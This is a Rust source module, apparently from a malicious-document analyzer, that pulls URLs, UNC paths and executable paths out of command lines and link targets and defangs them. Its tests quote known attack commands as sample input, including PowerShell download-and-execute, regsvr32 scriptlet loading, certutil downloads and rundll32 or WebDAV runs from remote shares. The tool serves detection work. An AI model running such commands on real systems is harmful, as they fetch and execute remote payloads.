//! Addresses and files that a command or a target names, as they stand there and defanged.
//!
//! Lenient: an address ends at white space, a quote or an angle bracket. One pass; what occurs
//! twice is kept once, in the order of the text.

use std::collections::BTreeSet;

use super::path;
use super::programs::tier;
use super::quote::cut;
use super::target::{Class, classify, without_redirector, without_unc};
use super::{Indicator, IndicatorKind};
use crate::text::starts_with;

/// Indicators kept of one link. More do not change its verdict, only the length of the report.
const KEPT: usize = 256;
/// Characters quoted of one indicator.
const QUOTED: usize = 2_048;
/// Schemes of addresses inside running text.
const SCHEMES: &[&str] = &["http://", "https://", "ftp://", "http:\\\\", "https:\\\\"];

/// Everything that these texts name, in their order.
pub(crate) fn indicators<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<Indicator> {
    let mut found = Found::default();
    for text in texts {
        for word in text.split(is_end) {
            found.word(word);
        }
    }
    found.list
}

/// The indicators of a target, which is one address: blanks and codes in it are part of it.
pub(crate) fn of_target(target: &str) -> Vec<Indicator> {
    let mut found = Found::default();
    let read = classify(target);
    match read.class {
        Class::Web => {
            let plain = read.oddities.is_empty() && read.moniker.is_none() && read.suffix.is_none();
            // What was undone is shown undone; anything else as it stands.
            found.push(
                IndicatorKind::Url,
                if plain { target.trim() } else { &read.address },
            );
        }
        Class::Server | Class::Intranet => {
            let path = read.address.replace('/', "\\");
            let path = match path.get(..5) {
                Some(scheme) if scheme.eq_ignore_ascii_case("file:") => {
                    path.get(5..).unwrap_or_default()
                }
                _ => &path,
            };
            let path = path.trim_start_matches('\\');
            let verbatim = path.strip_prefix("?\\").or(path.strip_prefix(".\\"));
            let verbatim = verbatim.or(path.strip_prefix("??\\"));
            let path = verbatim.and_then(without_unc).unwrap_or(path);
            let path = without_redirector(path);
            found.push(IndicatorKind::Unc, &format!("\\\\{path}"));
        }
        Class::Device | Class::Internal | Class::Local | Class::Relative | Class::Scheme => {
            target.split(is_end).for_each(|word| found.word(word));
        }
    }
    if let Some(suffix) = &read.suffix {
        found.word(suffix);
    }
    found.list
}

#[derive(Default)]
struct Found {
    list: Vec<Indicator>,
    seen: BTreeSet<String>,
}

impl Found {
    /// One word of running text.
    fn word(&mut self, word: &str) {
        let url = first_scheme(word);
        if let Some((before, url)) = url.and_then(|at| word.split_at_checked(at)) {
            self.urls(url);
            self.path(before);
        } else {
            self.path(word);
        }
    }

    /// A text that begins with a URL and may hold more of them (`…!x-usc:http://…`).
    fn urls(&mut self, text: &str) {
        let lower = text.to_ascii_lowercase();
        let end = lower.find("!x-usc:").unwrap_or(text.len());
        let (first, rest) = text.split_at_checked(end).unwrap_or((text, ""));
        let first = first.trim_end_matches(|c| {
            matches!(c, ')' | ']' | '}' | ';' | ',' | '.' | '!' | '|' | '&' | '#')
        });
        self.push(IndicatorKind::Url, first);
        let rest = rest.get("!x-usc:".len()..).unwrap_or_default();
        if SCHEMES.iter().any(|scheme| starts_with(rest, scheme)) {
            let rest = rest.trim_end_matches(['!', ')', ';']);
            self.push(IndicatorKind::Url, rest);
        }
    }

    /// A UNC path, or a path to something that runs.
    fn path(&mut self, word: &str) {
        for piece in word.split(['(', ')', ',', ';', '=', '|', '&']) {
            self.piece(piece);
        }
    }

    fn piece(&mut self, piece: &str) {
        let share = memchr::memchr(b'\\', piece.as_bytes())
            .and_then(|_| piece.find("\\\\"))
            .filter(|at| starts_path(piece, *at));
        if let Some(share) = share.and_then(|at| piece.get(at..))
            && matches!(classify(share).class, Class::Server | Class::Intranet)
        {
            self.push(IndicatorKind::Unc, share.trim_end_matches(['.', ':']));
            return;
        }
        if !piece.contains('.') {
            return;
        }
        let base = path::base_name(piece);
        let runs = path::executable_extension(&base).is_some();
        let known = tier(path::stem(&base)).is_some();
        let placed = piece.contains(['\\', '/']);
        let web_name = base.ends_with(".com") && !piece.contains('\\');
        if runs && !known && (placed || !base.ends_with(".dll")) && !web_name {
            self.push(IndicatorKind::FilePath, piece.trim_end_matches(['.', ':']));
        }
    }

    fn push(&mut self, kind: IndicatorKind, value: &str) {
        if self.list.len() >= KEPT || value.is_empty() {
            return;
        }
        let value = cut(value, QUOTED);
        if self.seen.insert(value.clone()) {
            let defanged = defang(kind, &value);
            self.list.push(Indicator {
                kind,
                value,
                defanged,
            });
        }
    }
}

/// Where the first address of a word begins.
fn first_scheme(word: &str) -> Option<usize> {
    // Most words have no address.
    memchr::memchr(b':', word.as_bytes())?;
    let lower = word.to_ascii_lowercase();
    SCHEMES.iter().filter_map(|scheme| lower.find(scheme)).min()
}

fn is_end(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>')
}

/// Two backslashes begin a server unless they are a doubled separator (`c:\\windows`).
fn starts_path(piece: &str, at: usize) -> bool {
    let before = piece.get(..at).unwrap_or_default();
    before.is_empty() || (before.ends_with(':') && before.chars().count() > 2)
}

/// The address as no program turns into a link.
fn defang(kind: IndicatorKind, value: &str) -> String {
    match kind {
        IndicatorKind::FilePath => value.to_owned(),
        IndicatorKind::Unc => {
            let start = value
                .len()
                .saturating_sub(value.trim_start_matches(['\\', '/']).len());
            defang_host(value, start)
        }
        IndicatorKind::Url => {
            let start = value.find("//").or_else(|| value.find("\\\\"));
            let start = start.map_or(0, |at| at.saturating_add(2));
            let safe = defang_host(value, start);
            match safe.get(..3).map(str::to_ascii_lowercase).as_deref() {
                Some("htt") => format!("hxx{}", safe.get(3..).unwrap_or_default()),
                Some("ftp") => format!("fxp{}", safe.get(3..).unwrap_or_default()),
                _ => safe,
            }
        }
    }
}

/// Brackets around the dots between `start` and the end of the host.
fn defang_host(value: &str, start: usize) -> String {
    let Some((head, rest)) = value.split_at_checked(start) else {
        return value.to_owned();
    };
    let end = rest.find(['/', '\\', '?', '#']).unwrap_or(rest.len());
    let (host, tail) = rest.split_at_checked(end).unwrap_or((rest, ""));
    format!("{head}{}{tail}", host.replace('.', "[.]"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use IndicatorKind::*;

    fn of(text: &str) -> Vec<(IndicatorKind, String)> {
        let found = indicators([text]);
        found
            .into_iter()
            .map(|found| (found.kind, found.defanged))
            .collect()
    }

    fn target(text: &str) -> Vec<(IndicatorKind, String)> {
        let found = of_target(text);
        found
            .into_iter()
            .map(|found| (found.kind, found.defanged))
            .collect()
    }

    #[test]
    fn published_commands() {
        assert_eq!(
            of(
                "-w Hidden IEX (New-Object System.Net.WebClient).DownloadString('http://a.b/a.ps1'); # "
            ),
            [(Url, "hxxp://a[.]b/a.ps1".into())]
        );
        assert_eq!(
            of("/k regsvr32 /s /n /u /i:http://x.y/a.sct scrobj.dll "),
            [(Url, "hxxp://x[.]y/a.sct".into())]
        );
        assert_eq!(
            of("/k certutil -urlcache -split -f http://x/a.exe && a.exe"),
            [(Url, "hxxp://x/a.exe".into()), (FilePath, "a.exe".into())]
        );
        assert_eq!(
            of("/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0"),
            [(Unc, "\\\\10[.]0[.]0[.]1\\3\\2\\1.dll".into())]
        );
        assert_eq!(
            of("/c start \\\\host.x@SSL@443\\DavWWWRoot\\a.exe"),
            [(Unc, "\\\\host[.]x@SSL@443\\DavWWWRoot\\a.exe".into())]
        );
        assert_eq!(of("/k calc.exe"), []);
        assert_eq!(of("c:\\\\windows\\\\system32\\\\cmd.exe"), []);
        assert_eq!(
            of("c:\\users\\x\\evil.hta"),
            [(FilePath, "c:\\users\\x\\evil.hta".into())]
        );
        assert_eq!(of("[Book1.xlsx]Sheet1"), []);
        assert_eq!(of("http://a/1 http://a/1"), [(Url, "hxxp://a/1".into())]);
    }

    #[test]
    fn targets() {
        assert_eq!(
            target("mhtml:http://h.x/x.html!x-usc:http://h.x/x.html"),
            [(Url, "hxxp://h[.]x/x.html".into())]
        );
        assert_eq!(
            target("https://h/a.html!"),
            [(Url, "hxxps://h/a.html".into())]
        );
        assert_eq!(
            target("file:///\\\\host.x\\share\\a.dotm"),
            [(Unc, "\\\\host[.]x\\share\\a.dotm".into())]
        );
        assert_eq!(
            target("http://a.b/my%20file.docx"),
            [(Url, "hxxp://a[.]b/my%20file.docx".into())]
        );
        assert_eq!(target("%68ttp://a.b/x"), [(Url, "hxxp://a[.]b/x".into())]);
        assert_eq!(
            target("\\\\h.x\\my share\\a.doc"),
            [(Unc, "\\\\h[.]x\\my share\\a.doc".into())]
        );
        assert_eq!(
            target("file:///\\\\?\\UNC\\10.0.0.9\\s\\a.xlsx"),
            [(Unc, "\\\\10[.]0[.]0[.]9\\s\\a.xlsx".into())]
        );
        assert_eq!(target("Normal.dotm"), []);
    }

    #[test]
    fn servers_behind_the_names_of_drivers() {
        for target in [
            "\\??\\UNC\\a.example\\s",
            "\\\\;LanmanRedirector\\a.example\\s",
        ] {
            let found = of_target(target);
            assert_eq!(found[0].value, "\\\\a.example\\s", "{target}");
        }
    }

    #[test]
    fn many_addresses_are_bounded() {
        let text = (0..100_000)
            .map(|n| format!("http://h/{n} "))
            .collect::<String>();
        assert_eq!(indicators([text.as_str()]).len(), 256);
    }
}
